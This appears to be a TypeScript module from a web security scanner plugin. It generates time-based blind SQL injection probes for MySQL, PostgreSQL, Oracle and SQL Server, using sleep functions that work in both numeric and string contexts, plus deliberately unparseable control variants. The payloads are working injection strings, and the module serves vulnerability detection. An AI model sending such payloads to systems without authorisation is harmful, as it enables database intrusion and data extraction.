import type { Delaying } from "@picket/plugin-sdk/probe";
import type { Database } from "./signatures.ts";

export interface Delay {
  readonly database: Database;
  readonly delaying: Delaying;
  /** The same words in a statement that cannot be parsed, wherever the value stands. */
  readonly inert: Delaying;
}

function delay(database: Database, write: (seconds: number, close: string) => string): Delay {
  return {
    database,
    delaying: (seconds) => write(seconds, ")"),
    inert: (seconds) => write(seconds, ")))"),
  };
}

/** WAITFOR is a statement, so it cannot stand in an expression as the others do. */
function waitFor(open: string): Delay {
  return {
    database: "Microsoft SQL Server",
    delaying: (seconds) => `${open} WAITFOR DELAY '0:0:${seconds}'--`,
    inert: (seconds) => `${open} WAITFOR WAITFOR DELAY '0:0:${seconds}'--`,
  };
}

/**
 * Delays by database, each for a number and a string at once: what follows the number is a comment there, and what comes
 * before the quote is text in a string. The subqueries run once, however many rows there are. They change nothing.
 */
export function delaysFor(value: string): readonly Delay[] {
  const number = /^\d{1,18}$/.test(value) ? value : "1";
  return [
    delay("MySQL", (seconds, close) => {
      const sleep = `(SELECT(0)FROM(SELECT(SLEEP(${seconds}))${close}q)`;
      return `${sleep}/*'+${sleep}+'"+${sleep}+"*/`;
    }),
    delay("PostgreSQL", (seconds, close) => {
      const sleep = (zero: string) => `(SELECT ${zero} FROM PG_SLEEP(${seconds}${close})`;
      return `${number}-${sleep("0")}/*'||${sleep("''")}||'*/`;
    }),
    delay("Oracle", (seconds, close) => {
      const sleep = `DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),${seconds}${close}`;
      return `${number}-${sleep}/*'||${sleep}||'*/`;
    }),
    waitFor(number),
    waitFor(`${value}'`),
  ];
}
